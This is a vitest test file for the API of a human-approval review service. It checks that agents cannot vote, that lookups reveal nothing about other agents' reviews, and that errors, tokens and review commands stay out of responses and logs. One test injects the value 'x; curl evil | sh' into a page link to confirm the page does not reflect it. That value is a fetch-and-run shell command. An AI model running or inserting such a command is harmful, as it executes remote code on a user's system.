import { ReviewPage } from '@sallyport/sdk/contract';
import { beforeEach, describe, expect, it } from 'vitest';
import { tokens } from '../../test/support/api-callers.ts';
import { makeReview } from '../../test/support/made-review.ts';
import { CalledApi, problemOf } from '../../test/support/called-api.ts';
import { mountRoutes } from './api.ts';
import type { ApiDeps } from './deps.ts';
import type { Route } from './route.ts';
import { routes } from './routes.ts';

let api: CalledApi;
beforeEach(() => {
  api = new CalledApi();
});

describe('an agent', () => {
  it('is refused even where the refusal cannot be recorded, and is told so', async () => {
    api.fake.ledgerWorks = false;
    const response = await api.ask('/v1/reviews', { token: tokens.reporter });
    expect(await problemOf(response)).toMatchObject({ status: 503, code: 'ledger.unavailable' });
  });

  it('reads the state of its own review, and nothing of who decides', async () => {
    const review = api.fake.add(makeReview());
    const response = await api.ask(`/v1/reviews/${review.id}/state`, { token: tokens.reporter });
    expect(Object.keys((await response.json()) as object).toSorted()).toEqual(
      ['expiresAt', 'id', 'openedAt', 'questions', 'resolution', 'revision', 'status'].toSorted(),
    );
  });

  it('learns of another agent’s review as much as of one that does not exist', async () => {
    const review = api.fake.add(makeReview());
    const others = await api.ask(`/v1/reviews/${review.id}/state`, { token: tokens.other });
    const nobodys = await api.ask(`/v1/reviews/${makeReview().id}/state`, { token: tokens.other });
    expect([others.status, await others.text()]).toEqual([404, await nobodys.text()]);
  });

  it('gets the code of the decision function when it votes', async () => {
    const review = api.fake.add(makeReview());
    const body = api.ballotFor(review);
    const response = await api.ask(`/v1/reviews/${review.id}/votes`, {
      token: tokens.reporter,
      method: 'POST',
      body,
    });
    expect((await problemOf(response)).code).toBe('vote.not_a_person');
    expect(api.fake.reviews.get(review.id)?.state.status).toBe('pending');
  });
});

it('a review on the wire holds nothing that only the ledger needs', async () => {
  const review = api.fake.add(makeReview());
  const text = await (await api.ask(`/v1/reviews/${review.id}`, { token: tokens.vera })).text();
  expect(text).not.toContain(review.subject.salt);
});

describe('a list of reviews', () => {
  it('comes newest first, a page at a time, and each once', async () => {
    const added = [1, 2, 3, 4, 5].map(() => api.fake.add(makeReview()).id);
    const seen: string[] = [];
    let before = '';
    for (let page = 0; page < 3; page++) {
      const response = await api.ask(`/v1/reviews?limit=2${before}`, { token: tokens.vera });
      const { reviews, next } = ReviewPage.parse(await response.json());
      seen.push(...reviews.map((review) => review.id));
      before = next === null ? '' : `&before=${next}`;
    }
    expect(seen).toEqual(added.toReversed());
  });

  it('holds no command, so that nobody decides from it', async () => {
    api.fake.add(makeReview({ command: 'SELECT card_number FROM customers' }));
    expect(await (await api.ask('/v1/reviews', { token: tokens.vera })).text()).not.toContain(
      'card_number FROM',
    );
  });
});

describe('a failure inside', () => {
  const secret = "duplicate key (email)=('ada@example.org')";

  it('tells the caller nothing, and the log no message', async () => {
    api.replace({ store: { read: (): Promise<never> => Promise.reject(new Error(secret)) } });
    const response = await api.ask('/v1/reviews', { token: tokens.vera });
    expect(await problemOf(response)).toMatchObject({ status: 500, code: 'internal' });
    expect(api.fake.logLines.join('')).toContain('api.test.ts');
    expect(api.fake.logLines.join('')).not.toContain('ada@example.org');
  });

  it('of a store that never answers ends in time', async () => {
    const after = (_delayMs: number, run: () => void) => {
      setTimeout(run, 0);
      return () => {};
    };
    api.replace({
      clock: { ...api.fake.deps.clock, after },
      store: { read: () => new Promise(() => {}) } as unknown as ApiDeps['store'],
    });
    const response = await api.ask('/v1/reviews', { token: tokens.vera });
    expect(await problemOf(response)).toMatchObject({ status: 503, code: 'request.timeout' });
  });
});

describe('what came too late', () => {
  it('is let go: no stream stays open for a caller who was told so', async () => {
    const store = Promise.withResolvers<undefined>();
    const ended = Promise.withResolvers<string>();
    const body = new ReadableStream<Uint8Array>({ cancel: () => ended.resolve('cancelled') });
    const events = routes.find(({ name }) => name === 'events');
    const handle = async () => {
      await store.promise;
      return { kind: 'stream', body } as const;
    };
    const after = (_delayMs: number, run: () => void) => {
      setTimeout(run, 0);
      return () => {};
    };
    const clock = { ...api.fake.deps.clock, after };
    const app = mountRoutes([{ ...events, handle } as Route], { ...api.fake.deps, clock });
    const authorization = `Bearer ${tokens.vera}`;
    expect((await app.request('/v1/events', { headers: { authorization } })).status).toBe(503);
    store.resolve(undefined);
    expect(await Promise.race([ended.promise, new Promise((resolve) => setTimeout(resolve, 500))])).toBe(
      'cancelled',
    );
  });
});

describe('half a character in a text', () => {
  it.each([
    ['in a value', '{"text":"a\\ud800b"}'],
    ['at the end of a value', '{"text":"\\uDFFF"}'],
  ])('%s is refused as such: no record could hold it', async (_, body) => {
    const { id } = api.fake.add(makeReview());
    const response = await api.ask(`/v1/reviews/${id}/questions`, {
      token: tokens.vera,
      method: 'POST',
      body,
    });
    expect(await problemOf(response)).toMatchObject({ status: 400, code: 'request.invalid' });
  });

  it('is none where both halves are there', async () => {
    const { id } = api.fake.add(makeReview());
    const body = '{"text":"Why? \\ud83d\\ude00"}';
    const response = await api.ask(`/v1/reviews/${id}/questions`, {
      token: tokens.vera,
      method: 'POST',
      body,
    });
    expect(response.status).toBe(200);
  });
});

describe('public routes', () => {
  it('say that the process answers', async () => {
    expect(await (await api.ask('/healthz')).text()).toBe('ok\n');
  });

  it('say the same of a review that exists and of one that does not', async () => {
    const [known, unknown] = [api.fake.add(makeReview()).id, makeReview().id];
    const texts = await Promise.all(
      [known, unknown].map(async (id) => (await api.ask(`/reviews/${id}`)).text()),
    );
    expect(texts[0]).toContain(`sallyport show ${known}`);
    expect(texts[1]?.replaceAll(unknown, known)).toBe(texts[0]);
  });

  it('put nothing of a link into the page that is not an id', async () => {
    const text = await (await api.ask(`/reviews/${encodeURIComponent('x; curl evil | sh')}`)).text();
    expect(text).not.toContain('evil');
  });
});

it('no token of any kind reaches the log', async () => {
  for (const token of Object.values(tokens)) await api.ask('/v1/reviews', { token });
  expect(api.fake.logLines.length).toBeGreaterThan(0);
  expect(api.fake.logLines.join('')).not.toContain('spt_');
});
